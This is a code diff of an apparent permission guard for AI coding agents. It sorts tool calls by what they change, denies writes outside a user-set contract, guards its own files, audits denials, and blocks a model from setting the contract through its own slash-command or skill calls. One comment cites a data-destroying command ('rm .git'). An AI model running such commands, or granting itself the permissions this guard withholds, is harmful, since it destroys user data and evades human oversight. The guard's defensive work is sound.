 def _tamper_unplaced(action: Action) -> List[str]:
@@ -16801,11 +17846,14 @@ def host_settings_matches(action: Action, protected_paths: Any) -> List[Tuple[st
     cwd_parts: Optional[List[Tuple[str, ...]]] = None
     folders: Dict[str, str] = {}
     found = []
+    flat = set(action.shell_flat_targets) - set(action.affected_paths)
     for raw in list(action.affected_paths) + list(action.shell_write_targets):
         for reading in _settings_readings(raw, action.cwd, folders):
             hit = _settings_reach(reading, settings)
             if hit is None:
                 continue
+            if hit[0] == "holds" and raw in flat:
+                continue   # `rm .git` reaches .git itself, never .git/hooks
             if hit[0] == "holds":
                 if cwd_parts is None:
                     cwd_parts = [r.parts for r in _settings_readings(".", action.cwd)
@@ -17747,6 +18795,66 @@ def _decision_culprit(action: Action, decision: Decision, allowed: Optional[List
     return ""
 
 
+# ---- what the user types to allow it ---------------------------------------
+
+
+def _widened_files(action: Action, allowed: List[str]) -> str:
+    """`files=` with the folders (as `dir/**`) or files outside the lock added."""
+    cwd = action.cwd or ""
+    targets = list(action.affected_paths) or list(action.shell_write_targets)
+    added: List[str] = []
+    for path in paths_outside(targets, allowed, action.cwd):
+        if cwd and path.startswith(cwd.rstrip("/") + "/"):
+            path = path[len(cwd.rstrip("/")) + 1:]
+        path = os.path.normpath(path)
+        if path.startswith(".."):
+            path = os.path.normpath(os.path.join(cwd, path)) if cwd else path
+        if os.path.isabs(path) or path.startswith(".."):
+            pattern = path                       # outside the project: only that file
+        else:
+            folder = os.path.dirname(path)
+            pattern = folder + "/**" if folder else path
+        if pattern not in allowed and not any(
+                pattern == had or (had.endswith("/**") and pattern.startswith(had[:-2]))
+                for had in added):
+            added.append(pattern)
+    wider = allowed + added
+    # Offered only when it is plain text and really lets every target in.
+    if not added or any(c in "".join(added) for c in " |`\n\t") \
+            or paths_outside(targets, wider, action.cwd):
+        return ""
+    return "files=" + "|".join(wider)
+
+
+def allow_directive(decision: Decision, action: Action, contract: dict) -> str:
+    """The directive that allows this call, for a denial a contract change
+    lifts ("" for the others: self-protection, state, delegation ...).
+    Fields persist, so the directive names only what changes."""
+    code = decision.code
+    if code in ("MODE_FORBIDS_MUTATION", "MUTABILITY_UNPROVEN") \
+            and contract.get("mode") in _MUTATION_FREE_MODES:
+        field = "change"
+    elif code == "PATH_OUTSIDE_CONTRACT" and isinstance(contract.get("allowedPaths"), list) \
+            and not isinstance(action.command, str) and action.affected_paths:
+        field = _widened_files(action, contract["allowedPaths"])
+    elif code in ("PATH_OUTSIDE_CONTRACT", "WRITE_PATH_UNPROVEN"):
+        # A shell write, or a tool with no path, is let through a lock by
+        # nothing narrower (the program may write elsewhere as well).
+        field = "files=**"
+    elif code == "HASH_NOT_AUTHORIZED":
+        field = "hash=allow"
+    elif code == "IRREVERSIBLE_ACTION":
+        field = "undo=allow"
+    elif code == "DEPENDENCY_NOT_AUTHORIZED":
+        field = "deps=allow"
+    elif code == "AGENT_BUDGET_EXHAUSTED" and _is_int(contract.get("agentBudget")) \
+            and contract["agentBudget"] < MAX_SAFE_INTEGER:
+        field = "agents=%d" % (contract["agentBudget"] + max(action.admission_count or 1, 1))
+    else:
+        return ""
+    return "%s %s" % (DIRECTIVE, field) if field else ""
+
+
 # ---- the STOP / WATCH message -----------------------------------------------
 
 _DECISION_RESPONSE_LINES: Dict[str, str] = {
@@ -17757,10 +18865,11 @@ _DECISION_RESPONSE_LINES: Dict[str, str] = {
 
 
 def decision_message(decision: Decision, *, state_label: str, mode: str,
-                     response_outcome: str, event_id: Optional[str], culprit: str = "") -> str:
+                     response_outcome: str, event_id: Optional[str], culprit: str = "",
+                     allow: str = "") -> str:
     """The multi-line STOP/WATCH message: WATCH when the result is context,
     then the response line, Reason, Detail, Code, State, Event, Culprit, Next
-    (empty lines left out).
+    and Allow, the directive that allows the call (empty lines left out).
 
     state_label is OFF, OBSERVING or ARMED for the contract the decision used
     (recovery shows ARMED / review); event_id is None when the audit failed.
@@ -17785,6 +18894,8 @@ def decision_message(decision: Decision, *, state_label: str, mode: str,
         lines.append(culprit)
     if decision.next:
         lines.append("Next: " + decision.next)
+    if allow:
+        lines.append("Allow: the user can send `%s` as a prompt to allow this." % allow)
     return "\n".join(lines)
 
 
@@ -19149,7 +20260,11 @@ class Store:
         here must not fail the hook.  One stat in the common (unchanged) case.
         Returns True when the marker changed.
         """
-        marker = os.path.join(self.root, "armed", key)
+        return self.set_marker("armed", key, armed)
+
+    def set_marker(self, kind: str, key: str, armed: bool) -> bool:
+        """Keep the empty file <data>/<kind>/<key> present iff `armed` (see set_armed)."""
+        marker = os.path.join(self.root, kind, key)
         try:
             os.stat(marker)
             present = True
@@ -20047,9 +21162,11 @@ def _context_for(state: dict, storage_error: Optional[dict]) -> str:
 def _protected_paths(store: Store) -> List[Any]:
     """The self-protection set: data dir, this file, installed paths, and the
     host settings that decide whether the hook runs (HostSettings)."""
-    paths: List[Any] = [store.root, os.path.abspath(__file__), host_settings()]
+    # `check` judges in a throwaway data dir (real_root): the real one stays guarded.
+    root = getattr(store, "real_root", store.root)
+    paths: List[Any] = [root, os.path.abspath(__file__), host_settings()]
     try:
-        with open(store.path("installed.json"), "rb") as fh:
+        with open(os.path.join(root, "installed.json"), "rb") as fh:
             listed = json.loads(fh.read()).get("paths", [])
         paths.extend(p for p in listed if isinstance(p, str))
     except (OSError, ValueError, AttributeError):
@@ -20096,6 +21213,35 @@ def _audit_record(event_id: str, key: str, action: Action, state: dict,
             "hostEffect": "unobserved",
         },
     }
+
+
+# What the audit keeps of a denied or noted call for the person who asks
+# `explain` or `log` why: the command as written (cut at this many
+# characters), the paths, the folder, the host's session id, the files= lock
+# and the Culprit line.  An allowed call keeps only its metadata: most calls
+# are allowed, and a log of every command an agent ran is not this audit's job.
+_SHOWN_COMMAND_CAP = 2000
+_SHOWN_PATHS_CAP = 20
+
+
+def _audit_shown(event: ControlEvent, action: Action, contract: dict, culprit: str,
+                 allow: str) -> dict:
+    shown: Dict[str, Any] = {"sessionId": event.session_id, "cwd": action.cwd}
+    command = action.command
+    if isinstance(command, str):
+        shown["command"] = command[:_SHOWN_COMMAND_CAP]
+        if len(command) > _SHOWN_COMMAND_CAP:
+            shown["commandCut"] = len(command)
+    if action.affected_paths:
+        shown["paths"] = list(action.affected_paths[:_SHOWN_PATHS_CAP])
+    allowed = contract.get("allowedPaths")
+    if isinstance(allowed, list):
+        shown["files"] = list(allowed)
+    if culprit:
+        shown["culprit"] = culprit
+    if allow:
+        shown["allow"] = allow
+    return shown
 
 
 def _handle_action_before(event: ControlEvent, key: str, store: Store,
@@ -20156,10 +21302,20 @@ def _handle_action_before(event: ControlEvent, key: str, store: Store,
     kind = outcome_result_kind(decision.outcome)
     response = _RESPONSE_OUTCOMES.get(kind, response_outcome)
     event_id = None
+    allowed = contract.get("allowedPaths")
+    culprit = allow = ""
+    if kind != "none" and decision.code != "DIRECTIVE_PENDING":
+        culprit = decision_culprit(action, decision,
+                                   allowed if isinstance(allowed, list) else None, protected)
+        if kind == "deny" and storage_error is None:
+            allow = allow_directive(decision, action, contract)
     # Every denial is audited, a pause for a rejected directive under `off` too.
     if contract["level"] != "off" or storage_error is not None or kind == "deny":
         candidate = new_event_id()
         record = _audit_record(candidate, key, action, state, decision, response)
+        record["host"] = (event.host or {}).get("family")
+        if kind != "none":
+            record["shown"] = _audit_shown(event, action, contract, culprit, allow)
         if store.append_audit(key, record):
             event_id = candidate
     _refresh_markers(store, event, key, _armed(state, storage_error))
@@ -20170,12 +21326,9 @@ def _handle_action_before(event: ControlEvent, key: str, store: Store,
         # The rejection's own words, and the event, so that `explain` finds it.
         text = decision.detail + ("\nEvent: %s" % event_id if event_id else "")
         return CoreResult(kind, text, decision.code, event_id)
-    allowed = contract.get("allowedPaths")
-    culprit = decision_culprit(action, decision, allowed if isinstance(allowed, list) else None,
-                               protected)
     text = decision_message(decision, state_label=control_state(contract),
                             mode=contract["mode"], response_outcome=response,
-                            event_id=event_id, culprit=culprit)
+                            event_id=event_id, culprit=culprit, allow=allow)
     return CoreResult(kind, text, decision.code, event_id)
 
 
@@ -20640,6 +21793,7 @@ def _in_run_folder(action: dict, folder: Optional[str], known: bool, cwd: Option
     if folder == cwd and known:
         return action
     action.pop("shellWritesKnown", None)   # its patterns are not re-anchored
+    action.pop("shellFlatTargets", None)   # nor its flat names: judged as folders again
     keys = ("shellWriteTargets", "shellWritePatterns", "shellNamedPaths", "lostTargets")
     if not known and any(not (t.startswith(("/", "~")) or _is_windows_path(t))
                          for t in action.get("lostTargets") or []):
@@ -21043,6 +22197,8 @@ def shell_action(name: str, command: Any, *, powershell: bool = False) -> dict:
         action["unknownWriteTarget"] = True
     if verdict.writes_known:
         action["shellWritesKnown"] = True
+    if verdict.flat_targets:
+        action["shellFlatTargets"] = list(verdict.flat_targets)
     if verdict.python_folder:
         action[_PYTHON_FOLDER_KEY] = True   # settled by place_call, where the folder is known
     if verdict.runs_packages:
@@ -21192,7 +22348,7 @@ ADAPTER_TOOLS: Dict[str, Dict[str, Tuple[Tuple[str, ...], str, str]]] = {
         "Read": (("file_path",), "", ""), "Glob": (("path",), "", ""), "Grep": (("path",), "", ""),
         "LSP": (("filePath",), "", ""),
         "CronCreate": ((), "prompt", ""), "ScheduleWakeup": ((), "prompt", ""),
-        "Skill": ((), "prompt", ""),
+        "Skill": ((), "prompt", ""), "SlashCommand": ((), "prompt", ""),
         **{tool: ((), "", "") for tool in (
             "ListAgents", "ListMcpResourcesTool", "ReadMcpResourceTool", "WebFetch",
             "WebSearch", "AskUserQuestion", "CronDelete", "CronList", "EndConversation",
@@ -21274,7 +22430,7 @@ ADAPTER_TOOLS: Dict[str, Dict[str, Tuple[Tuple[str, ...], str, str]]] = {
         "write_file": (("file_path",), "", ""), "edit": (("file_path",), "", ""),
         "notebook_edit": (("notebook_path",), "", ""), "save_memory": ((), "", ""),
         "enter_worktree": ((), "", ""),
-        "run_shell_command": ((), "shell", "directory"), "monitor": ((), "shell", ""),
+        "run_shell_command": ((), "shell", "directory"), "monitor": ((), "shell", "directory"),
         "agent": ((), "agent", ""), "workflow": ((), "agent", ""),
         "team_create": ((), "agent", ""), "create_sub_session": ((), "agent", ""),
         "send_message": ((), "agent", ""), "exec": ((), "code", ""),
@@ -21310,6 +22466,21 @@ HOST_PATH_RULES: Dict[str, str] = {
     "copilot": "relative to the session folder; a leading `~` is judged both ways",
     "qwen": "relative to the session folder; a leading `~` is judged both ways",
 }
+
+
+def _guard_command_args(tool_input: Any) -> Optional[str]:
+    """The arguments of a model-invoked command or skill that is this guard's
+    own (`/stop-that-shit open`, `{"skill": "plugin:Stop-That-Shit", "args":
+    "off"}`), else None.  The name is the first word of the command text,
+    matched without case and without a plugin prefix, as hosts match it."""
+    if not isinstance(tool_input, dict):
+        return None
+    parts = (_first_text(tool_input, "skill", "command", "name") or "").strip().split(None, 1)
+    if not parts or parts[0].lstrip("/").rpartition(":")[2].lower() != "stop-that-shit":
+        return None
+    rest = [v for k, v in tool_input.items()
+            if isinstance(v, str) and k not in ("skill", "command", "name")]
+    return " ".join(parts[1:] + rest).strip()
 
 
 def _needs_call_id(action: dict) -> bool:
@@ -21469,17 +22640,20 @@ class _CommandHookAdapter(Adapter):
         return shell_action(name, tool_input.get("command"), powershell=True)
 
     def _skill(self, name: str, tool_input: dict) -> dict:
-        """A control, unless it loads this guard's own skill with arguments that
-        would set the contract: the model may read the skill, never type the
-        directive for the user."""
+        """A control, unless it invokes this guard's own command or skill with
+        arguments that would set the contract: the model may read the skill,
+        never type the directive for the user."""
         action = {"name": name, "mutability": "control"}
-        skill = _first_text(tool_input, "skill", "command", "name") or ""
-        if skill.lstrip("/").rpartition(":")[2].strip().lower() == "stop-that-shit":
-            args = " ".join(v for k, v in tool_input.items()
-                            if isinstance(v, str) and k not in ("skill", "command", "name"))
-            if args.strip() and _sets_contract("$stop-that-shit " + args):
-                action["affectedPaths"] = [_session_state_folder()]
+        args = _guard_command_args(tool_input)
+        if args and _sets_contract("$stop-that-shit " + args):
+            action["affectedPaths"] = [_session_state_folder()]
         return action
+
+    def _exit_worktree(self, name: str, tool_input: dict) -> dict:
+        """Leaving a worktree and keeping it is a control; `remove` (or an
+        action that is not `keep`) deletes the worktree and its branch."""
+        keep = str(tool_input.get("action", "")).strip().lower() == "keep"
+        return {"name": name, "mutability": "control" if keep else "write"}
 
     def _scheduled_prompt(self, name: str, tool_input: dict) -> dict:
         """A control, unless the prompt it schedules would set the contract.
@@ -21664,6 +22838,9 @@ _CLAUDE_USER_SOURCES = frozenset(("user", "sdk"))
 # Claude Code: the slash form of the directive, at the directive position only.
 _CLAUDE_SLASH_FORMS = ("/stop-that-shit:stop-that-shit", "/stop-that-shit")
 _CLAUDE_DELEGATION_TOOLS = frozenset(("Agent", "Task"))
+# How long after a model's call of the guard's own command its expansion may
+# come (the host expands it as the call runs).
+_MODEL_EXPANSION_SECONDS = 120
 _TASK_DONE_STATUSES = frozenset(("completed", "failed", "killed"))
 
 
@@ -21742,10 +22919,13 @@ class ClaudeAdapter(_CommandHookAdapter):
             "Read", "Glob", "Grep", "ListAgents", "ListMcpResourcesTool",
             "ReadMcpResourceTool", "LSP", "WebFetch", "WebSearch")},
         "CronCreate": "_scheduled_prompt", "ScheduleWakeup": "_scheduled_prompt",
-        "Skill": "_skill",
+        "Skill": "_skill", "SlashCommand": "_skill",
+        # Deleting a job changes what runs later (a durable one is a file of the
+        # user's); removing a worktree deletes it and its branch.
+        "CronDelete": "write", "ExitWorktree": "_exit_worktree",
         **{name: "control" for name in (
-            "AskUserQuestion", "CronDelete", "CronList", "EndConversation",
-            "EnterPlanMode", "ExitPlanMode", "ExitWorktree", "PushNotification",
+            "AskUserQuestion", "CronList", "EndConversation",
+            "EnterPlanMode", "ExitPlanMode", "PushNotification",
             "ReportFindings", "SendMessage", "TodoWrite",
             "TaskCreate", "TaskUpdate", "TaskList", "TaskGet", "TaskOutput", "TaskStop",
             "ToolSearch", "WaitForMcpServers")},
@@ -21813,17 +22993,46 @@ class ClaudeAdapter(_CommandHookAdapter):
             fact["agentId"] = agent
         return HookCall(name, self.envelope("action.after", session, action=fact), render=False)
 
+    def on_pre_tool(self, payload: dict, store: Store, name: str) -> Optional[HookCall]:
+        call = super().on_pre_tool(payload, store, name)
+        tool = payload.get("tool_name")
+        if call is not None and _is_text(tool) and self.TOOLS.get(tool) == "_skill" \
+                and _guard_command_args(payload.get("tool_input")) is not None:
+            # The expansion this call may cause is the model's, not the user's:
+            # on_prompt_expansion reads this mark and sets nothing.
+            store.set_marker("expanding", session_key(call.session_id), False)
+            store.set_marker("expanding", session_key(call.session_id), True)
+        return call
+
+    def _model_expansion(self, store: Store, session: str) -> bool:
+        """Whether a model's Skill or SlashCommand call of this guard's command
+        came just before (and consume its mark).  Hosts run the expansion right
+        after the call; a mark older than that is one whose call was stopped."""
+        import time
+        key = session_key(session)
+        try:
+            age = time.time() - os.stat(store.path("expanding", key)).st_mtime
+        except OSError:
+            return False
+        store.set_marker("expanding", key, False)
+        return age < _MODEL_EXPANSION_SECONDS
+
     def on_prompt_expansion(self, payload: dict, store: Store, name: str) -> Optional[HookCall]:
         expansion = payload.get("expansion_type")
         command = payload.get("command_name")
         # Matched without case, like the typed directive (`/Stop-That-Shit`).
         if expansion not in (None, "slash_command") or not isinstance(command, str) or \
-                command.lower() not in ("stop-that-shit", "stop-that-shit:stop-that-shit"):
+                command.lower().rpartition(":")[2] != "stop-that-shit":
             return None
         session = self.session_of(payload)
         args = payload.get("command_args")
         if session is None:
             return None
+        if self._model_expansion(store, session):
+            # Model text never sets the contract: the session's own contract
+            # comes back as context, as for any text the model wrote.
+            return HookCall(name, self.envelope("session.start", session,
+                                                host=self.host_meta(payload)))
         prompt = "$stop-that-shit" + (" " + args if isinstance(args, str) and args else "")
         return HookCall(name, self.envelope("prompt.submit", session, prompt=prompt,
                                             host=self.host_meta(payload)))
@@ -22124,9 +23333,10 @@ def hermes_delegation_count(tool_input: Any) -> int:
     return 1 if _is_text(tool_input.get("goal")) else 0
 
 
-# Hermes `cronjob` actions that start nothing (create, update, resume and run
-# schedule or start an agent run).
-_HERMES_CRON_CONTROLS = frozenset(("list", "pause", "remove"))
+# Hermes `cronjob` actions that start nothing, and what they do to the user's
+# job store: `list` reads it, `pause` and `remove` change it (create, update,
+# resume and run schedule or start an agent run).
+_HERMES_CRON_ACTIONS = {"list": "read", "pause": "write", "remove": "write"}
 # Link name of a Hermes task id, for tool calls that carry no session id.
 _HERMES_TASK_LINK = "hermes-task:"
 # How Hermes 0.19 begins the notices it queues as user turns (process_registry).
@@ -22221,11 +23431,13 @@ class HermesAdapter(_HostBAdapter):
         return code_action(name, "python", tool_input.get("code"))
 
     def _cronjob(self, name: str, tool_input: dict) -> dict:
-        """Managing jobs is a control; creating, changing or running one starts
-        an agent later, in a session of its own the guard never counts."""
+        """Listing jobs reads, pausing or removing one changes the user's job
+        store; creating, changing or running one starts an agent later, in a
+        session of its own the guard never counts."""
         verb = tool_input.get("action")
-        if isinstance(verb, str) and verb.strip().lower() in _HERMES_CRON_CONTROLS:
-            return {"name": name, "mutability": "control"}
+        verb = verb.strip().lower() if isinstance(verb, str) else None
+        if verb in _HERMES_CRON_ACTIONS:
+            return {"name": name, "mutability": _HERMES_CRON_ACTIONS[verb]}
         return {"name": name, "mutability": "unknown", "startsAgent": "hermes cronjob"}
 
     def _delegate(self, name: str, tool_input: dict) -> dict:
@@ -22302,6 +23514,8 @@ class HermesAdapter(_HostBAdapter):
                 else resolve_root(store, session)
         except _LinkDamaged as exc:
             return self.damaged_tool_call(name, session, action, call_id, exc.error)
+        if root.startswith(_HERMES_TASK_LINK):
+            return None  # a task no prompt linked: its session is unknown (the runner's rule)
         return self.before_call(name, session, root, action, call_id, payload.get("cwd"), store,
                                 tool_input=tool_input, turnId=self.field(payload, "turn_id"))
 
@@ -23730,12 +24944,13 @@ class QwenAdapter(_NewHostAdapter):
             "lsp", "read_mcp_resource", "tool_search", "list_agents", "get_goal",
             "zoom_image", "display_image", "cron_list", "task_list",
             "omni_recall_media_memory")},
+        # As in Claude Code; team_delete removes a team's saved configuration.
+        "cron_delete": "write", "team_delete": "write", "exit_worktree": "_exit_worktree",
         **{name: "control" for name in (
             "todo_write", "exit_plan_mode", "enter_plan_mode", "ask_user_question",
-            "cron_delete", "task_create", "task_update",
+            "task_create", "task_update",
             "task_stop", "structured_output", "report_findings", "update_goal",
-            "propose_goal", "request_shutdown", "team_delete", "team_plan_approval",
-            "exit_worktree")},
+            "propose_goal", "request_shutdown", "team_plan_approval")},
     }
     _TOOL_CALL_DEPTH = 4
 
@@ -24358,14 +25573,17 @@ _COPILOT_EVENTS: Tuple[Tuple[str, int], ...] = (
 _COPILOT_HOOK_FILE = "stop-that-shit.json"
 
 # Shim files per in-process host: (source under host_shims/, destination under
-# the host's base folder).  Copies, not links: each copy pins this sts.py.
+# the host's base folder).  Copies, not links: each copy pins this sts.py.  The
+# JS shims import the wire module from the folder above their own, here and
+# in host_shims/ alike.
+_WIRE = ("stop-that-shit-wire.mjs", "stop-that-shit-wire.mjs")
 _SHIM_FILES: Dict[str, Tuple[Tuple[str, str], ...]] = {
-    "opencode": (("opencode/stop-that-shit.js", "plugin/stop-that-shit.js"),),
+    "opencode": (("opencode/stop-that-shit.js", "plugin/stop-that-shit.js"), _WIRE),
     # Kilo Code loads OpenCode's plugin as it is; install changes the host it names.
-    "kilo": (("opencode/stop-that-shit.js", "plugin/stop-that-shit.js"),),
-    "cline": (("cline/stop-that-shit.js", "plugins/stop-that-shit.js"),),
-    "pi": (("pi/stop-that-shit.js", "extensions/stop-that-shit.js"),),
-    "omp": (("omp/stop-that-shit.js", "extensions/stop-that-shit.js"),),
+    "kilo": (("opencode/stop-that-shit.js", "plugin/stop-that-shit.js"), _WIRE),
+    "cline": (("cline/stop-that-shit.js", "plugins/stop-that-shit.js"), _WIRE),
+    "pi": (("pi/stop-that-shit.js", "extensions/stop-that-shit.js"), _WIRE),
+    "omp": (("omp/stop-that-shit.js", "extensions/stop-that-shit.js"), _WIRE),
     "hermes": (("hermes/stop-that-shit/plugin.yaml", "plugins/stop-that-shit/plugin.yaml"),
                ("hermes/stop-that-shit/__init__.py", "plugins/stop-that-shit/__init__.py")),
 }
@@ -24455,6 +25673,8 @@ _PROBE_EVENTS: Dict[str, Callable[[str, str], dict]] = {
 _SILENT_OK = frozenset(("codex", "claude", "hermes", "gemini", "qwen", "copilot", "droid"))
 
 _PIN_MARK = "sts install rewrites this line"
+# What marks a file install may replace: a shim's pinned line, the wire module's header.
+_OWN_MARKS = (_PIN_MARK.encode(), b"Stop That Shit -- the wire module")
 _SHIM_NAME = "stop-that-shit"
 _OPENCODE_PLUGIN_PKG = "@opencode-ai/plugin"
 _OPENCODE_PLUGIN_VERSION = "1.18.33"  # the version the host kit verified offline
@@ -24496,9 +25716,24 @@ def _sh_quote(word: str) -> str:
 
 
 def _dir_writable(path: str) -> bool:
-    """Can Python cache bytecode next to sts.py?  (__pycache__ if present, else the folder.)"""
+    """Can Python cache bytecode next to sts.py?  Tried, not asked of the
+    permission bits (root passes those on a read-only mount): a file is
+    made and removed in __pycache__ if present, else in the folder; a
+    __pycache__ that is no folder cannot hold a cache."""
     cache = os.path.join(path, "__pycache__")
-    return os.access(cache if os.path.isdir(cache) else path, os.W_OK)
+    if os.path.lexists(cache) and not os.path.isdir(cache):
+        return False
+    probe = os.path.join(cache if os.path.isdir(cache) else path,
+                         ".sts-probe-%d-%s" % (os.getpid(), os.urandom(4).hex()))
+    try:
+        os.close(os.open(probe, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600))
+    except OSError:
+        return False
+    try:
+        os.unlink(probe)
+    except OSError:
+        pass
+    return True
 
 
 def hook_argv(host: str, python: str = "python3", sts_path: Optional[str] = None) -> List[str]:
@@ -25144,6 +26379,16 @@ def _shims_dir() -> str:
     return os.path.join(os.path.dirname(_sts_path()), "host_shims")
 
 
+def _shim_source(src: str) -> str:
+    return os.path.join(_shims_dir(), *src.split("/"))
+
+
+def _copy_is_current(src: str, dest: str) -> bool:
+    """A file install copies as it is (no pinned line) still holds its source bytes."""
+    raw = _install_read(dest)
+    return raw is not None and raw == _install_read(_shim_source(src))
+
+
 def _pin_shim(name: str, text: str, sts_path: str) -> str:
     """Rewrite the shim's one marked line so the copy finds this sts.py."""
     import re
@@ -25283,14 +26528,14 @@ def _plan_install(host: str, scope: str, python: str, entry: dict) -> _Plan:
                    os.path.join(_HOSTS["codex"]["user"](), "config.toml"),
                    json.dumps(_project_root(), ensure_ascii=False)))
     for src, dst in _SHIM_FILES.get(host, ()):
-        source = os.path.join(_shims_dir(), *src.split("/"))
+        source = _shim_source(src)
         raw_src = _install_read(source)
         if raw_src is None:
             raise InstallError("the shim %s is missing; install needs the host_shims/ folder "
                                "that ships next to sts.py." % source)
         text = _pin_shim(dst, _text(source, raw_src), _sts_path())
         shipped, renamed = _SHIM_HOSTS.get(host, ("", "", "", ""))[2:]
-        if shipped:
+        if shipped and dst.endswith(".js"):  # the shim names its host; the wire module does not
             if text.count(shipped) != 1:
                 raise InstallError("the shim %s does not name its host in one line %r; this "
                                    "copy of host_shims/ is damaged." % (source, shipped))
@@ -25298,7 +26543,7 @@ def _plan_install(host: str, scope: str, python: str, entry: dict) -> _Plan:
         new = text.encode("utf-8")
         dest = os.path.join(base, *dst.split("/"))
         old = _install_read(dest)
-        if old is not None and old != new and _PIN_MARK.encode() not in old:
+        if old is not None and old != new and not any(m in old for m in _OWN_MARKS):
             raise InstallError("%s exists and is not an sts shim; move it away and run install "
                                "again." % dest)
         _change(plan, dest, old, new)
@@ -25484,10 +26729,14 @@ def _plan_uninstall(host: str, scope: str, python: str, entry: dict) -> _Plan:
     if host in _HOOK_EVENTS:  # without a record, still take out groups running this sts.py
         files.setdefault(os.path.join(base, _HOSTS[host]["config"]),
                          {"type": "hooks-json", "created_file": False, "created": []})
-    for src, dst in _SHIM_FILES.get(host, ()):
-        dest = os.path.join(base, *dst.split("/"))
-        if dest not in files and _shim_pinned_to(dest) == _sts_path():
-            files[dest] = {"type": "file", "created_file": True, "sha256": None}
+    # Without a record: the copies pinned to this sts.py and, beside them, the
+    # files copied as they are (the wire module) while they are unchanged.
+    copies = [(src, os.path.join(base, *dst.split("/"))) for src, dst in _SHIM_FILES.get(host, ())]
+    pinned = [dest for _, dest in copies if dest not in files and _shim_pinned_to(dest) == _sts_path()]
+    verbatim = [dest for src, dest in copies if pinned and dest not in files and
+                not dest.endswith((".js", ".py")) and _copy_is_current(src, dest)]
+    for dest in pinned + verbatim:
+        files[dest] = {"type": "file", "created_file": True, "sha256": None}
     if host == "copilot":
         dest = _copilot_hook_path(base)
         if dest not in files and _install_read(dest) == _copilot_hooks_text(python).encode():
@@ -26096,12 +27345,13 @@ def _doctor_host(host: str, entries: List[dict], check: Callable[..., None]) -> 
                       % (cfg, gone, _GUARD_GONE["hook"]), fix_s)
             ok, text = _json_hooks_wired(cfg, host, command)
             check("OK" if ok else "FAIL", host, "wired: " + text, None if ok else fix_s)
-        for _, dst in _SHIM_FILES.get(host, ()):
+        for src, dst in _SHIM_FILES.get(host, ()):
             dest = os.path.join(base, *dst.split("/"))
-            if not dst.endswith((".js", ".py")):
-                ok = os.path.isfile(dest)
-                check("OK" if ok else "FAIL", host, "%s %s" % (dest, "present" if ok else
-                                                               "is missing"), None if ok else fix_s)
+            if not dst.endswith((".js", ".py")):  # copied as it is: the same bytes as the source
+                ok = _copy_is_current(src, dest)
+                check("OK" if ok else "FAIL", host, "%s %s" % (dest, "present" if ok else "is missing"
+                      if not os.path.isfile(dest) else "differs from the one in host_shims/"),
+                      None if ok else fix_s)
                 continue
             pinned = _shim_pinned_to(dest)
             if pinned and not os.path.isfile(pinned):
@@ -26263,15 +27513,148 @@ def _doctor_hermes(fix: str, check: Callable[..., None]) -> None:
         check("WARN", "hermes", "HERMES_SAFE_MODE=1 disables plugins", "unset HERMES_SAFE_MODE")
 
 
+def _command_tail(command: str) -> Optional[List[str]]:
+    """The words a hook command gives sts after its own path or import code
+    (the host name, and Copilot's event); None when it does not run sts."""
+    import shlex
+    try:
+        argv = shlex.split(command)
+    except ValueError:
+        return None
+    for index, word in enumerate(argv):
+        if word == "-c" and index + 1 < len(argv) and "import sts" in argv[index + 1]:
+            return argv[index + 2:]
+        if word.endswith("sts.py"):
+            return argv[index + 1:]
+    return None
+
+
+def _sts_hook_commands(path: str) -> List[Tuple[str, Optional[str]]]:
+    """(command, the hook event it is listed under) of every string in a
+    host's JSON configuration that runs sts."""
+    try:
+        with open(path, encoding="utf-8") as fh:
+            data = json.load(fh)
+    except (OSError, ValueError):
+        return []
+    events = {name for table in _HOOK_EVENTS.values() for name, _, _ in table}
+    events.update(name for name, _ in _COPILOT_EVENTS)
+    found: List[Tuple[str, Optional[str]]] = []
+
+    def visit(value: Any, event: Optional[str]) -> None:
+        if isinstance(value, dict):
+            for key, item in value.items():
+                visit(item, key if key in events else event)
+        elif isinstance(value, list):
+            for item in value:
+                visit(item, event)
+        elif isinstance(value, str) and _command_tail(value) is not None:
+            found.append((value, event))
+
+    visit(data, None)
+    return found
+
+
+def _doctor_host_names(host: str, path: str, check: Callable[..., None], fix: str) -> None:
+    """A hook that names a host sts does not know (or another host, or no
+    Copilot event) does nothing useful; say which and where."""
+    copilot_events = [name for name, _ in _COPILOT_EVENTS]
+    for command, event in _sts_hook_commands(path):
+        tail = _command_tail(command) or []
+        given = tail[0] if tail else ""
+        if given not in _HOOK_HOSTS:
+            close = __import__("difflib").get_close_matches(given, _HOOK_HOSTS, 1)
+            check("FAIL", host, "%s runs sts with host name %r%s, which sts does not know: "
+                  "the hook only prints an error and every call runs unguarded%s"
+                  % (path, given, " under %s" % event if event else "",
+                     " (did you mean %s?)" % close[0] if close else ""), fix)
+        elif given != host:
+            check("FAIL", host, "%s runs sts as host %s, so %s's events are read as %s's"
+                  % (path, given, host, given), fix)
+        elif host == "copilot" and (len(tail) < 2 or tail[1] not in copilot_events
+                                    or (event and tail[1] != event)):
+            check("FAIL", host, "%s runs `sts.py copilot` %s%s; Copilot's input does not name "
+                  "its event, so the command must" % (
+                      path, "with no event name" if len(tail) < 2 else
+                      "with event %r" % tail[1], " under %s" % event if event else ""), fix)
+
+
+def _wired_at_all(host: str) -> bool:
+    """Whether the user's configuration of `host` runs sts in any way."""
+    base = _base_dir(host, "user")
+    if host in _HOOK_EVENTS:
+        return bool(_sts_hook_commands(os.path.join(base, _HOSTS[host]["config"])))
+    if host == "copilot":
+        return os.path.exists(_copilot_hook_path(base))
+    return any(os.path.exists(os.path.join(base, *dst.split("/")))
+               for _, dst in _SHIM_FILES.get(host, ()))
+
+
+# What a person does with a session file sts cannot read.
+_DAMAGED_ADVICE = {
+    "STATE_DAMAGED": "its calls are judged read-only until then. Send a new directive in that "
+                     "session (`$stop-that-shit review`, ...): sts keeps the damaged file as "
+                     "%s.damaged-<time> and starts afresh; or start a new host session",
+    "STS_LOCK_DAMAGED": "stop every host that uses %s, then move only %s.lock aside",
+}
+
+
+def _doctor_sessions(root: str, check: Callable[..., None]) -> None:
+    store = Store(root)
+    try:
+        names = sorted(n for n in os.listdir(store.path("sessions"))
+                       if n.endswith(".json") and _key_ok(n[:-5]))
+    except OSError:
+        return
+    bad = 0
+    for name in names:
+        error = store.load(name[:-5]).storage_error
+        if error is None:
+            continue
+        bad += 1
+        path = store.path("sessions", name)
+        advice = _DAMAGED_ADVICE.get(error.get("code"), "")
+        advice = advice % ((path,) if error.get("code") == "STATE_DAMAGED" else (root, path))
+        check("FAIL", "sts", "session file %s: %s: %s" % (path, error.get("code"),
+                                                        error.get("message")), advice or None)
